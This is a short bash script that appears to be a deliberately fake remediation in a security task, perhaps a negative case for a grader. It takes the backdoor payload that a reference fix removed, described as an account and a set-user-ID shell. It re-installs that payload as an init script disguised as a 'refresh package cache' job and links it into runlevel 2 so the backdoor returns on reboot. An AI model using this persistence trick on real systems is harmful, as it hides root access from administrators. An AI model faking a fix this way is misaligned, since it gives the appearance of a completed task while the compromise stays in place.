#!/bin/bash
# Fake, after the reference fix (which keeps the job in $answer_job and the payload line it
# removed in $payload), but keep the payload in a start-up script (runlevel 2):
# the account and the set-user-ID shell are gone now and back after the next reboot.
[ -n "$payload" ] || { echo "no payload found"; exit 1; }
printf '#!/bin/sh\n# refresh package cache\n[ "$1" = start ] || exit 0\n%s\nexit 0\n' "$payload" >/etc/init.d/pkgcache
chmod 0755 /etc/init.d/pkgcache
ln -sf ../init.d/pkgcache /etc/rc2.d/S99pkgcache
cat /etc/init.d/pkgcache | head -3
